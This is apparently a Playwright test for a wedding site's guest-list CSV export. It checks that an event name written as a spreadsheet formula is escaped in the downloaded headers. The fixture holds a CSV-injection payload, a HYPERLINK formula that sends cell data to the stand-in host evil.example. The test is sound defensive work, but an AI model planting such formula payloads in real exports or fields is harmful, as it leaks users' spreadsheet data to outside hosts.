/**
 * A host whose function is titled like a spreadsheet formula downloads the guest list: the column headers that
 * title makes (seats, answer) open as text in a spreadsheet, not as a formula that could send the list away.
 */
import { readFile } from 'node:fs/promises';
import { expect, test } from './fixtures';
import { saveContent, seedSiteOwner } from './helpers/live-site';

const TRAP = '=HYPERLINK("https://evil.example/?d="&A2,"Sangeet")';

test('the guest list downloaded as CSV has its formula-like headers neutralised', async ({ page, server }) => {
  const owner = await seedSiteOwner(page, server);
  await saveContent(server, owner, {
    BrideName: 'Ananya',
    GroomName: 'Rohan',
    Schedule1EventName: 'Haldi',
    Schedule1Date: '2027-02-10',
    Schedule2EventName: TRAP,
    Schedule2Date: '2027-02-10',
  });
  const added = await fetch(`${server.url}/rest/api/private/live/${owner.liveId}/households`, {
    method: 'POST',
    headers: { authorization: owner.authorization, 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'Sharma family', members: [], events: [{ eventKey: 'schedule-2', seats: 2 }] }),
  });
  expect(added.status).toBe(200);

  await page.goto('/guests');
  await expect(page.getByText('Sharma family').first()).toBeVisible();
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download list (CSV)' }).click();
  const csv = (await readFile(await (await downloading).path())).toString('utf8').replace(/^\uFEFF/, '');
  const header = csv.split(/\r?\n/)[0]!;
  expect(header).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A2,""Sangeet"") seats"`);
  expect(header).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A2,""Sangeet"") answer"`);
  // No header cell starts a formula.
  expect(header).not.toMatch(/(^|,)"?\s*[=+\-@]/);
});
